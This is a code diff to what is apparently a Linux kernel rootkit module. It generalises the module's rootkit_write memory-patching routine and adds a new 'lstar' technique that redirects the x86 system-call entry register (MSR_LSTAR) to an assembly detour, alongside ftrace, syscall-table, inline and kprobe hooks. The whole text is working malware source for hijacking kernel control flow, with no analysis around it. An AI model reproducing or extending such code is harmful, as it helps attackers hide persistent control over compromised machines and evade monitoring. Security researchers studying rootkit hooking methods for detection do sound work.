@@ -97,9 +97,9 @@ static void give_call_back(void)
 
 static u8 old_code[PATCH];
 
-int rootkit_write(void *at, const void *bytes, size_t size)
+static int write_by(struct page *(*page_of)(const void *at), void *at, const void *bytes, size_t size)
 {
-	struct page *pages[2] = { virt_to_page(at), virt_to_page(at + size - 1) };
+	struct page *pages[2] = { page_of(at), page_of(at + size - 1) };
 	void *alias = vmap(pages, 2, VM_MAP, PAGE_KERNEL);
 
 	if (!alias)
@@ -107,6 +107,21 @@ int rootkit_write(void *at, const void *bytes, size_t size)
 	memcpy(alias + offset_in_page(at), bytes, size);
 	vunmap(alias);
 	return 0;
+}
+
+static struct page *image_page(const void *at)
+{
+	return virt_to_page(at);
+}
+
+int rootkit_write(void *at, const void *bytes, size_t size)
+{
+	return write_by(image_page, at, bytes, size);
+}
+
+static int rootkit_write_module(void *at, const void *bytes, size_t size)
+{
+	return write_by(vmalloc_to_page, at, bytes, size);
 }
 
 /* Behind what ftrace has there: it would find another's bytes in its place, and stop. */
@@ -173,12 +188,42 @@ static void probe_no_more(void)
 	unregister_kprobe(&at_entry);
 }
 
+/* ---- the entry of system calls: a jump of ours to the kernel's, on the one CPU ---- */
+
+asm(".pushsection .text\n"
+    ".balign 16\n"
+    "detour: .byte 0xe9, 0, 0, 0, 0\n"
+    "int3\n"
+    ".popsection\n");
+extern char detour[];
+
+static u64 old_entry;
+
+static int take_entry(void)
+{
+	s32 offset;
+	int r;
+
+	rdmsrl(MSR_LSTAR, old_entry);
+	offset = (long)old_entry - (long)(detour + PATCH);
+	r = rootkit_write_module(detour + 1, &offset, sizeof(offset));
+	if (!r)
+		wrmsrl(MSR_LSTAR, (unsigned long)detour);
+	return r;
+}
+
+static void give_entry_back(void)
+{
+	wrmsrl(MSR_LSTAR, old_entry);
+}
+
 struct trick hook_tricks[] = {
 	{ "ftrace", trace, trace_no_more },
 	{ "ftrace-quiet", deny, admit },
 	{ "call-table", take_call, give_call_back },
 	{ "inline", patch, unpatch },
 	{ "kprobe", probe, probe_no_more },
+	{ "lstar", take_entry, give_entry_back },
 	{ }
 };
 
